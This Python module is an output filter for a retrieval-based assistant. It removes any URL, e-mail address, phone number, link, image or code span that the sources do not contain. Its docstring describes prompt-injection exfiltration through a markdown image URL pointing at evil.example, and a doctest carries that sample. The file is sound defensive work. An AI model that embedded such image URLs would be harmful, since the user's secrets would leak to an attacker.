"""The output guardrail against exfiltration and hijack: an answer carries no URL, e-mail address,
phone number, markdown link or image, or code that its sources do not hold.

A model steered by an injected instruction can smuggle data out in a link or image URL
(``![x](https://evil.example/?q=<secret>)``, loaded by a markdown renderer with no click), or
point the reader at an attacker's address, number or command. So each such item of a generated
answer stays only when a source shown to the model holds it: URLs (``http``/``ftp``, ``mailto:``,
``www.``, ``domain.tld/path``; host in any case, trailing punctuation stripped), e-mail addresses,
phone numbers (by their digits; years, ISBNs, dates, versions are not phones), code spans and
blocks (whitespace folded). An unsourced markdown link keeps its words; an image never stays
(a sourced one becomes its alt text).

``OutputStreamFilter`` does it on a token stream, holding back only what could still become an
item (at most ``MAX_HOLD`` characters), so what streams is what the whole text gives:

    >>> check = screen_output("See ![x](https://evil.example/p.png?q=1) https://docs.example/a. Or a@b.example",
    ...                       ["Docs live at https://docs.example/a"])
    >>> check.text
    'See https://docs.example/a. Or'
    >>> [item.kind for item in check.removed]
    ['image', 'email']
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field

MAX_HOLD = 300  # the most a stream holds back waiting for an item to end (one longer is cut there)
_CONTEXT = 16  # raw text kept before the scan position, for lookbehinds (an "ISBN" before digits)

_STOP = r"\s<>\"'`\[\]"  # characters that end a URL in running text
_TOKEN_ITEMS = re.compile(
    rf"(?P<url>(?:https?|ftp)://[^{_STOP}]+|(?:mailto|tel|sms):[^{_STOP}]+)"
    rf"|(?P<email>(?<![\w.+-])[\w.+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{{2,24}}(?![\w-]))"
    rf"|(?P<www>(?<![\w.-])www\.[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+[^{_STOP}]*)"
    rf"|(?P<domain>(?<![\w.@/-])(?:[A-Za-z0-9](?:[A-Za-z0-9-]{{0,61}}[A-Za-z0-9])?\.)+[A-Za-z]{{2,24}}/[^{_STOP}]*)",
    re.I,
)
_PHONE = re.compile(
    r"(?<![\w.+/-])(?:"
    r"\+\d{1,3}[ .-]?(?:\(\d{1,4}\)[ .-]?)?\d{1,4}(?:[ .-]?\d{2,4}){1,4}"  # +44 20 7946 0958, +1 (555) 123-4567
    r"|\(\d{2,4}\)[ .-]?\d{3,4}[ .-]?\d{3,4}"  # (555) 123-4567
    r"|\d{2,4}([.-])\d{3,4}\1\d{3,4}"  # 555-123-4567, 555.123.4567 (one separator throughout)
    r"|0\d{1,4} \d{3,4} \d{3,4}"  # 020 7946 0958: spaced national numbers start with a trunk 0
    r"|\d{3}-\d{4}"  # 555-1234
    r")(?![\w]|[.-]\d)"
)
_PHONE_CHARS = frozenset("0123456789 ().+-")
_PHONE_CAP = 32
_YEAR = re.compile(r"(?:1\d|20)\d\d")
_TRAILING = ".,;:!?'\"*_}"
_CLOSING_PUNCT = frozenset(".,;:!?)")
_FILE_EXTENSIONS = frozenset({"js", "ts", "py", "md", "rs", "go", "sh", "rb", "pl", "cs", "txt", "json", "yaml", "yml",
                              "toml", "html", "css", "java", "cpp", "php", "pdf", "png", "jpg", "svg"})
_SPACE = re.compile(r"\s+")
_DIGIT_GAPS = re.compile(r"(?<=\d)[\s().+-]+(?=\d)")


@dataclass(frozen=True, slots=True)
class RemovedItem:
    """One item taken out of an answer: ``kind`` is url, email, phone, link, image or code."""

    kind: str
    text: str

    def describe(self) -> str:
        """Says what was removed without repeating it (an exfiltration URL carries the data)."""
        what = {"url": "URL", "email": "e-mail address", "phone": "phone number", "image": "image",
                "link": "link's address (its text was kept)", "code": "code span or block"}[self.kind]  # fmt: skip
        host = _host(self.text) if self.kind in ("url", "email", "image", "link") else ""
        return f"removed an unsourced {what}" + (f" ({host})" if host else "")


@dataclass(slots=True)
class OutputCheck:
    """An answer's text with the unsourced items removed, and those items."""

    text: str
    removed: list[RemovedItem] = field(default_factory=list)


def _host(item: str) -> str:
    match = re.search(r"(?:://|@|^|\()(?:www\.)?([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)", item)
    return match.group(1).lower() if match and not match.group(1).replace(".", "").isdigit() else ""


def _strip_trailing(url: str) -> str:
    """Sentence punctuation after a URL is not part of it; a ``)`` is, when the URL opened one."""
    while url:
        last = url[-1]
        if last in _TRAILING or (last == ")" and url.count("(") < url.count(")")):
            url = url[:-1]
        else:
            break
    return url


def _tld(item: str) -> str:
    return item.split("/", 1)[0].rsplit(".", 1)[-1].lower()


def _url_key(url: str) -> str:
    key = re.sub(r"^(?:https?|ftp|mailto|tel|sms):(?://)?", "", url.strip().lower())
    return key.removeprefix("www.").rstrip("/")


def _fold(text: str) -> str:
    return _SPACE.sub(" ", text).strip().lower()


class SourceText:
    """What the sources hold, indexed once per answer for the checks.

    Example::

        sources = SourceText([chunk.text for chunk in chunks])
        sources.has("url", "https://docs.example/a")
    """

    def __init__(self, texts: Iterable[str]) -> None:
        texts = [t for t in texts if t]
        self.lower = "\n".join(t.lower() for t in texts)
        self.folded = "\n".join(_fold(t) for t in texts)
        self.digits = "\n".join(_DIGIT_GAPS.sub("", t) for t in texts)
        self.urls = {_url_key(_strip_trailing(m.group())) for t in texts for m in _TOKEN_ITEMS.finditer(t)
                     if m.lastgroup != "email"}  # fmt: skip
        self.emails = {m.group().lower() for t in texts for m in _TOKEN_ITEMS.finditer(t) if m.lastgroup == "email"}

    def has(self, kind: str, item: str) -> bool:
        if kind == "email":
            return item.lower() in self.emails
        if kind == "phone":
            digits = re.sub(r"\D", "", item)
            # A suffix of a source's number: "555-123-4567" is "+1 (555) 123-4567" without its country code.
            return re.search(rf"{digits}(?!\d)", self.digits) is not None
        if kind == "code":
            return _fold(item) in self.folded  # "" (an empty span) is in any text
        key = _url_key(item)
        if key in self.urls:
            return True
        # Written in a source some other way ("example.com", no scheme): a whole-word occurrence.
        return re.search(rf"(?<![\w.-]){re.escape(key)}(?![\w-]|\.\w)", self.lower) is not None


def screen_output(text: str, sources: Sequence[str] | SourceText) -> OutputCheck:
    """``text`` without the items no source holds, and the list of what was removed."""
    screen = OutputStreamFilter(sources)
    cleaned = screen.feed(text) + screen.flush()
    return OutputCheck(cleaned, screen.removed)


class OutputStreamFilter:
    """``screen_output`` on a stream of deltas: the concatenated output equals the whole text's.

    Held back: the word being written (a URL or address ends at a space), a ``[`` or `` ` `` until
    its link or code closes, digits that may be a phone number, and whitespace until the next
    word (so a removed item's gap closes). Nothing is held longer than ``MAX_HOLD`` characters.

    Example::

        screen = OutputStreamFilter([c.chunk.text for c in chunks])
        for delta in stream:
            yield screen.feed(delta)
        yield screen.flush()
        screen.removed    # what was taken out
    """

    def __init__(self, sources: Sequence[str] | SourceText) -> None:
        self.sources = sources if isinstance(sources, SourceText) else SourceText(sources)
        self.removed: list[RemovedItem] = []
        self._raw = ""
        self._pos = 0
        self._out: list[str] = []
        self._space = ""  # whitespace held until the next word shows whether a removal's gap needs it
        self._emitted = False
        self._gap = False  # an item was removed since the last word
        self._fence_state = ""  # inside a code block longer than MAX_HOLD: "keep" or "drop" its rest

    def feed(self, delta: str) -> str:
        self._raw += delta
        return self._drain(final=False)

    def flush(self) -> str:
        out = self._drain(final=True) + ("" if self._gap else self._space)
        self._space = ""
        return out

    # -- scanning ------------------------------------------------------------------------------

    def _drain(self, final: bool) -> str:
        raw, i = self._raw, self._pos
        while i < len(raw):
            step = self._step(raw, i, final)
            if step is None:
                break  # may still become an item: wait for more text
            i = step
        keep = max(0, i - _CONTEXT)
        self._raw, self._pos = raw[keep:], i - keep
        out, self._out = "".join(self._out), []
        return out

    def _step(self, raw: str, i: int, final: bool) -> int | None:
        """Handles what starts at ``i``: the index after it, or None when more text must come."""
        c = raw[i]
        if c.isspace():
            end = _SPACE.match(raw, i).end()  # type: ignore[union-attr]  # raw[i] is a space
            self._space += raw[i:end]
            return end
        if self._fence_state:
            return self._fence_piece(raw, i, final)
        if c == "`" and not final and len(raw) - i < 3 and raw[i:] == "`" * (len(raw) - i):
            return None  # one or two backticks: a fence may be arriving
        if raw.startswith("```", i):
            return self._fence(raw, i, final)
        if c == "`":
            return self._inline_code(raw, i, final)
        if c == "!" and i + 1 == len(raw) and not final:
            return None  # "![" may be arriving
        if raw.startswith("![", i) or c == "[":
            link = self._link(raw, i, final)
            if link is None or link > i:
                return link
            self._word(c)  # not a link: the bracket is text
            return i + 1
        if c in "+(" or c.isdigit():
            phone = self._phone(raw, i, final)
            if phone is None or phone > i:
                return phone
        return self._token(raw, i, final)

    def _fence(self, raw: str, i: int, final: bool) -> int | None:
        # Only a closing fence within MAX_HOLD counts, so the outcome never depends on how the text arrived.
        close = raw.find("```", i + 3, i + MAX_HOLD)
        if close < 0 and not final and len(raw) < i + MAX_HOLD:
            return None
        end = close + 3 if close >= 0 else min(len(raw), i + MAX_HOLD)
        block = raw[i:end]
        body = block[3 : len(block) - 3 if close >= 0 else len(block)]
        info, newline, rest = body.partition("\n")
        if newline and re.fullmatch(r"[\w+.#-]*", info.strip()):
            body = rest  # the language tag is not code
        kept = self._item("code", block, body)
        if close < 0 and end - i >= MAX_HOLD:
            # Longer than we hold: the rest is judged piece by piece, and dropped from the first
            # piece no source holds (nothing of a block shows after a part of it was hidden).
            self._fence_state = "keep" if kept else "drop"
        return end

    def _fence_piece(self, raw: str, i: int, final: bool) -> int | None:
        close = raw.find("```", i, i + MAX_HOLD)
        if close < 0 and not final and len(raw) < i + MAX_HOLD:
            return None
        end = close if close >= 0 else min(len(raw), i + MAX_HOLD)
        piece = raw[i:end]
        if self._fence_state == "keep" and not self.sources.has("code", piece):
            self._drop(RemovedItem("code", piece))
            self._fence_state = "drop"
        elif self._fence_state == "keep":
            self._words(piece)
        if close < 0:
            return end
        if self._fence_state == "keep":
            self._word("```")
        self._fence_state = ""
        return close + 3

    def _inline_code(self, raw: str, i: int, final: bool) -> int | None:
        close = raw.find("`", i + 1, i + MAX_HOLD)
        newline = raw.find("\n", i + 1, i + MAX_HOLD)
        if close < 0 and newline < 0 and not final and len(raw) < i + MAX_HOLD:
            return None
        if close < 0 or 0 <= newline < close:
            self._word("`")  # a lone backtick: text
            return i + 1
        self._item("code", raw[i : close + 1], raw[i + 1 : close])
        return close + 1

    def _link(self, raw: str, i: int, final: bool) -> int | None:
        """``[text](url)`` or ``![alt](url)``: the index after it, None to wait, or ``i`` if it is none."""
        image = raw[i] == "!"
        start = i + 2 if image else i + 1
        j = start
        while j < len(raw) and raw[j] not in "[]\n" and j - i < MAX_HOLD:
            j += 1
        if j == len(raw):
            return i if final or j - i >= MAX_HOLD else None
        if raw[j] != "]" or j + 1 > len(raw):
            return i
        if j + 1 == len(raw):
            return i if final else None
        if raw[j + 1] != "(":
            return i
        depth, k = 1, j + 2
        while k < len(raw) and depth and raw[k] != "\n" and k - i < MAX_HOLD:
            depth += {"(": 1, ")": -1}.get(raw[k], 0)
            k += 1
        if depth:
            return None if k == len(raw) and not final and k - i < MAX_HOLD else i
        label, target = raw[start:j], raw[j + 2 : k - 1].strip()
        url = target.split()[0].strip("<>") if target else ""
        sourced = bool(url) and self.sources.has("url", _strip_trailing(url))
        visible = screen_output(label, self.sources)  # the text may hold items of its own
        if image and not sourced:
            self._drop(RemovedItem("image", url))  # removed whole: its alt text may be the bait
            return k
        if image:
            self._words(visible.text)  # an answer never embeds an image: its alt text at most
        elif sourced:
            self._words(f"[{visible.text}]({target})")
        else:
            self.removed.append(RemovedItem("link", url))
            self._gap = self._gap or not visible.text.strip()  # nothing left to show: close the gap
            self._words(visible.text)
        self.removed.extend(visible.removed)
        return k

    def _phone(self, raw: str, i: int, final: bool) -> int | None:
        j = i
        while j < len(raw) and raw[j] in _PHONE_CHARS and j - i < _PHONE_CAP:
            j += 1
        if j == len(raw) and not final and j - i < _PHONE_CAP:
            return None
        match = _PHONE.match(raw, i, min(len(raw), j + 1))
        if match is None or not _is_phone(match.group(), raw[max(0, i - 12) : i]):
            return i
        self._item("phone", match.group(), match.group())
        return match.end()

    def _token(self, raw: str, i: int, final: bool) -> int | None:
        """A run of text up to the next space, backtick or bracket: URLs and addresses in it."""
        j = i + 1
        while j < len(raw) and not raw[j].isspace() and raw[j] not in "`[!" and j - i < MAX_HOLD:
            j += 1
        if j == len(raw) and not final and j - i < MAX_HOLD:
            return None
        at = i
        for match in _TOKEN_ITEMS.finditer(raw, i, j):
            item = _strip_trailing(match.group())
            if not item:
                continue
            self._word(raw[at : match.start()])
            if match.lastgroup == "domain" and _tld(item) in _FILE_EXTENSIONS:
                continue  # "Node.js/Express", "setup.py/..." are names, not hosts
            kind = "email" if match.lastgroup == "email" else "url"
            self._item(kind, item, item)
            at = match.start() + len(item)
        self._word(raw[at:j])
        return j

    # -- output --------------------------------------------------------------------------------

    def _item(self, kind: str, text: str, checked: str) -> bool:
        if self.sources.has(kind, checked):
            self._words(text) if kind == "code" else self._word(text)
            return True
        self._drop(RemovedItem(kind, text))
        return False

    def _drop(self, item: RemovedItem) -> None:
        self.removed.append(item)
        self._gap = True

    def _words(self, text: str) -> None:
        for part in re.finditer(r"\s+|\S+", text):
            if part.group()[0].isspace():
                self._space += part.group()
            else:
                self._word(part.group())

    def _word(self, text: str) -> None:
        """Emits non-space text, first deciding what the held whitespace before it becomes."""
        if not text:
            return
        space = self._space
        if self._gap:
            # Close the gap a removal left: "see <url> now" -> "see now", "at <url>." -> "at.".
            lines = min(space.count("\n"), 2)
            if not self._emitted or (not lines and text[0] in _CLOSING_PUNCT):
                space = ""
            elif lines:
                space = "\n" * lines
            elif space:
                space = " "
            self._gap = False
        self._out.append(space + text)
        self._space = ""
        self._emitted = True


def _is_phone(candidate: str, before: str) -> bool:
    digits = re.sub(r"\D", "", candidate)
    if not 7 <= len(digits) <= 15 or "isbn" in before.lower():
        return False
    groups = re.findall(r"\d+", candidate)
    # "1861 1865 1901": years side by side are not a phone number.
    return not all(len(g) == 4 and _YEAR.fullmatch(g) for g in groups)
